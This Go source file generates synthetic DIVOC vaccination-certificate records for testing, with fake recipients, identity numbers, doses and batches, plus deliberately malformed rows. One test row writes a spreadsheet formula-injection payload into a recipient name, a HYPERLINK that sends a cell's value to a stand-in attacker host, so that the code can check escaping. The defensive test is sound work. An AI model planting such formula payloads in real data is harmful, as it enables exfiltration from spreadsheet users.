package gendata

import (
	"fmt"
	"strings"
	"time"

	"github.com/divoc/divoc/divocfmt"
)

// Chances that a person comes back for dose 2, and for each dose after it
// (a booster), when the vaccine has that many doses.
const (
	secondDoseChance = 0.8
	laterDoseChance  = 0.3
)

// ageBands: vaccinated adults, more of working age than of the very old.
var ageBands = []struct{ lo, hi, weight int }{
	{18, 29, 25}, {30, 44, 30}, {45, 59, 25}, {60, 74, 15}, {75, 90, 5},
}

// age draws an age in years from ageBands.
func (g *generator) age() int {
	n := g.r.intn(100)
	for _, band := range ageBands {
		if n < band.weight {
			return g.r.between(band.lo, band.hi)
		}
		n -= band.weight
	}
	panic("gendata: ageBands weights do not add up to 100")
}

// person is a recipient before any dose: the Age is set per row.
type person struct {
	recipient         divocfmt.Recipient
	preEnrollmentCode string
}

// makeGoodRows adds people and their doses until there are
// Options.Certificates rows.
func (g *generator) makeGoodRows() {
	for len(g.rows) < g.opts.Certificates {
		fi := g.r.weighted(g.facWeights, g.facTotal)
		vi := g.r.weighted(g.vacWeights, g.vacTotal)
		vac := g.opts.Vaccines[vi]
		dates := []time.Time{g.randomTime()}
		for dose := 2; dose <= vac.Doses; dose++ {
			chance := laterDoseChance
			if dose == 2 {
				chance = secondDoseChance
			}
			if !g.r.chance(chance) {
				break
			}
			next := g.nextDose(dates[len(dates)-1], vac.MinIntervalDays)
			if next.After(g.opts.End) {
				break
			}
			dates = append(dates, next)
		}
		if room := g.opts.Certificates - len(g.rows); len(dates) > room {
			dates = dates[:room]
		}
		p := g.person(fi, dates[0])
		g.recipients++
		for i, date := range dates {
			g.addRow(g.certificate(p, fi, vi, i+1, date), fi, date, nil)
		}
	}
}

func (g *generator) addRow(c divocfmt.Certificate, facility int, sortAt time.Time, bad *BadRow) {
	g.rows = append(g.rows, &row{cert: c, facility: facility, sortAt: sortAt, bad: bad})
}

// randomTime returns a time on a random day of [Start, End], in opening
// hours (08:30 to 17:30 in India).
func (g *generator) randomTime() time.Time {
	day := g.firstDay.AddDate(0, 0, g.r.intn(g.days+1))
	return g.clamp(g.openingHours(day))
}

func (g *generator) openingHours(day time.Time) time.Time {
	return day.Add(3*time.Hour + time.Duration(g.r.intn(9*3600))*time.Second)
}

func (g *generator) clamp(t time.Time) time.Time {
	switch {
	case t.Before(g.opts.Start):
		return g.opts.Start
	case t.After(g.opts.End):
		return g.opts.End
	}
	return t
}

// nextDose returns a time at least interval days (as a duration and in
// calendar days) after prev, usually a few weeks more.
func (g *generator) nextDose(prev time.Time, interval int) time.Time {
	extra := g.r.intn(15) + g.r.intn(29)
	t := g.openingHours(midnight(prev).AddDate(0, 0, interval+extra))
	if t.Before(prev.AddDate(0, 0, interval)) {
		t = t.Add(24 * time.Hour)
	}
	return t
}

// person makes a recipient who lives near facility fi, and is 18 to 90 on
// the day of the first dose.
func (g *generator) person(fi int, firstDose time.Time) person {
	p := g.places[fi]
	if g.r.chance(0.2) { // from elsewhere in the state
		p.district = g.r.intn(len(states[p.state].districts))
	}
	var r divocfmt.Recipient
	female := false
	switch n := g.r.intn(1000); {
	case n < 503:
		r.Gender, female = "Female", true
	case n < 998:
		r.Gender = "Male"
	default:
		r.Gender, female = "Other", g.r.chance(0.5)
	}
	r.Name = g.personName(female)
	age := g.age()
	r.DOB = firstDose.AddDate(-age, 0, -g.r.intn(365)).Format(time.DateOnly)
	r.Nationality = "Indian"
	r.Address = g.address(p)
	if g.r.chance(0.96) {
		r.Mobile = g.mobile()
	}
	r.Identity = g.identity(states[p.state].rto, r.Mobile == "")
	return person{recipient: r, preEnrollmentCode: g.preEnrollmentCode()}
}

// identity returns a DIVOC identity: mostly an Aadhaar number, some driving
// licences and passports, and a few people without one (if they have a mobile).
func (g *generator) identity(rto string, required bool) string {
	for {
		var id string
		switch n := g.r.intn(100); {
		case n < 85:
			id = "did:in.gov.uidai.aadhaar:" + fmt.Sprint(g.r.between(2, 9)) + g.r.digits(11)
		case n < 93:
			id = fmt.Sprintf("did:in.gov.driverlicense:%s%02d%d%s", rto, g.r.between(1, 50), g.r.between(1990, 2020), g.r.digits(7))
		case n < 98:
			id = "did:in.gov.passport:" + g.r.letters(1) + g.r.digits(7)
		default:
			if !required {
				return ""
			}
			continue
		}
		if g.unique("identity:" + id) {
			return id
		}
	}
}

// preEnrollmentCode returns a new ten-digit code (no leading zero, which a
// spreadsheet would drop).
func (g *generator) preEnrollmentCode() string {
	for {
		if s := fmt.Sprint(g.r.between(1, 9)) + g.r.digits(9); g.unique("pre-enrollment:" + s) {
			return s
		}
	}
}

// certificate is dose number dose of vaccine vi, given to p at facility fi
// by one of its vaccinators.
func (g *generator) certificate(p person, fi, vi, dose int, date time.Time) divocfmt.Certificate {
	f := g.facilities[fi]
	vac := g.opts.Vaccines[vi]
	c := divocfmt.Certificate{
		PreEnrollmentCode: p.preEnrollmentCode,
		Recipient:         p.recipient,
		Vaccination: divocfmt.Vaccination{
			Name:           vac.Name,
			Manufacturer:   vac.Manufacturer,
			Batch:          g.batch(vi, date),
			Date:           date,
			Dose:           dose,
			TotalDoses:     vac.Doses,
			EffectiveStart: date.Format(time.DateOnly),
			EffectiveUntil: date.AddDate(1, 0, 0).Format(time.DateOnly),
		},
		VaccinatorName:  g.vaccinators[pick(g.r, g.atFacility[fi])].Name,
		FacilityName:    f.Name,
		FacilityAddress: f.Address,
	}
	c.Recipient.Age, _ = divocfmt.AgeAt(c.Recipient.DOB, date)
	return c
}

// batch returns the batch in use on date: batches follow each other through
// [Start, End], with some old stock of the previous one.
func (g *generator) batch(vi int, date time.Time) string {
	list := g.batches[vi]
	day := int(midnight(date).Sub(g.firstDay) / (24 * time.Hour))
	i := min(max(day*len(list)/(g.days+1), 0), len(list)-1)
	if i > 0 && g.r.chance(0.1) {
		i--
	}
	return list[i]
}

// addBadRows adds Options.BadRows rows, cycling through the kinds (skipping
// a kind this dataset cannot have, such as a vaccinator from elsewhere when
// every vaccinator works everywhere).
func (g *generator) addBadRows() {
	good := len(g.rows)
	for added, k := 0, 0; added < g.opts.BadRows; k++ {
		if g.addBadRow(badKinds[k%len(badKinds)], good, k/len(badKinds)) {
			added++
		}
	}
}

// unparseableDates are vaccination dates the parser must refuse.
var unparseableDates = []string{"31/12/2021", "2021-02-30", "yesterday", "2021-13-01T10:00:00Z"}

// unknownVaccines are vaccine names to use when not in the catalogue.
var unknownVaccines = []string{"CoviNova", "Vaxigrip Plus", "Sputnik X"}

// addBadRow adds one row of the kind; round counts the rows of that kind so
// far. A bad row is a new person's first dose with one thing wrong, except
// a duplicate, which copies one of the first good rows.
func (g *generator) addBadRow(kind BadKind, good, round int) bool {
	fi := g.r.weighted(g.facWeights, g.facTotal)
	vi := g.r.weighted(g.vacWeights, g.vacTotal)
	date := g.randomTime()
	b := &BadRow{Kind: kind}
	var c divocfmt.Certificate
	if kind != BadDuplicateDose {
		if kind == BadFutureDate {
			date = g.openingHours(g.lastDay.AddDate(0, 0, g.r.between(1, 30)))
		}
		c = g.certificate(g.person(fi, date), fi, vi, 1, date)
	}
	switch kind {
	case BadMissingName:
		b.Stage, b.Code, b.Field = StageParser, divocfmt.CodeMissingValue, "recipientName"
		b.Note = fmt.Sprintf("recipientName left empty (was %q)", c.Recipient.Name)
		c.Recipient.Name = ""
	case BadUnparseableDate:
		b.Stage, b.Code, b.Field = StageParser, divocfmt.CodeInvalidDate, "vaccinationDate"
		b.Raw = unparseableDates[round%len(unparseableDates)]
		b.Note = fmt.Sprintf("vaccinationDate written as %q", b.Raw)
	case BadFutureDate:
		b.Stage, b.Code, b.Field = StageLedger, "future_date", "vaccinationDate"
		b.Note = fmt.Sprintf("vaccinationDate %s is after the end of the data, %s", c.Vaccination.Date.Format(time.RFC3339), g.opts.End.Format(time.RFC3339))
	case BadDoseOverTotal:
		b.Stage, b.Code, b.Field = StageParser, divocfmt.CodeDoseOutOfRange, "vaccinationDose"
		c.Vaccination.Dose = c.Vaccination.TotalDoses + 1
		b.Note = fmt.Sprintf("dose %d of totalDoses %d", c.Vaccination.Dose, c.Vaccination.TotalDoses)
	case BadUnknownVaccine:
		b.Stage, b.Code, b.Field = StageLedger, "unknown_vaccine", "vaccinationName"
		c.Vaccination.Name = g.unknownVaccine()
		b.Note = fmt.Sprintf("vaccine %q is not in the catalogue", c.Vaccination.Name)
	case BadVaccinatorElsewhere:
		v, ok := g.vaccinatorNotAt(fi)
		if !ok {
			return false
		}
		b.Stage, b.Code, b.Field = StageLedger, "vaccinator_not_at_facility", "vaccinatorName"
		c.VaccinatorName = v.Name
		b.Note = fmt.Sprintf("vaccinator %s (%s) works at %s, not at %s", v.Name, v.Code, strings.Join(v.FacilityCodes, ","), g.facilities[fi].Code)
	case BadDuplicateDose:
		orig := g.rows[g.r.intn(good)]
		c, fi = orig.cert, orig.facility
		date = orig.sortAt.Add(time.Duration(g.r.between(60, 30*86400)) * time.Second)
		b.Stage, b.Code = StageLedger, "duplicate_dose"
		b.Note = fmt.Sprintf("copy of the row of %s, dose %d, of %s", c.Recipient.Name, c.Vaccination.Dose, c.Vaccination.Date.Format(time.RFC3339))
	case TrickyFormulaName:
		b.Field = "recipientName"
		c.Recipient.Name = fmt.Sprintf(`=HYPERLINK("http://evil.example/?id="&A1,"%s")`, c.Recipient.Name)
		b.Note = "recipientName is a spreadsheet formula: valid, kept as text, escaped when written back"
	}
	g.addRow(c, fi, date, b)
	return true
}

// unknownVaccine returns a vaccine name that is not in the catalogue.
func (g *generator) unknownVaccine() string {
	known := map[string]bool{}
	for _, v := range g.opts.Vaccines {
		known[strings.ToLower(strings.TrimSpace(v.Name))] = true
	}
	for i := 0; ; i++ {
		name := unknownVaccines[i%len(unknownVaccines)]
		if i >= len(unknownVaccines) {
			name = fmt.Sprintf("%s %d", name, i)
		}
		if !known[strings.ToLower(name)] {
			return name
		}
	}
}

// vaccinatorNotAt returns a random vaccinator not attached to facility fi.
func (g *generator) vaccinatorNotAt(fi int) (divocfmt.Vaccinator, bool) {
	code := g.facilities[fi].Code
	var others []int
	for i, v := range g.vaccinators {
		if !containsCode(v.FacilityCodes, code) {
			others = append(others, i)
		}
	}
	if len(others) == 0 {
		return divocfmt.Vaccinator{}, false
	}
	return g.vaccinators[pick(g.r, others)], true
}

func containsCode(codes []string, code string) bool {
	for _, c := range codes {
		if c == code {
			return true
		}
	}
	return false
}
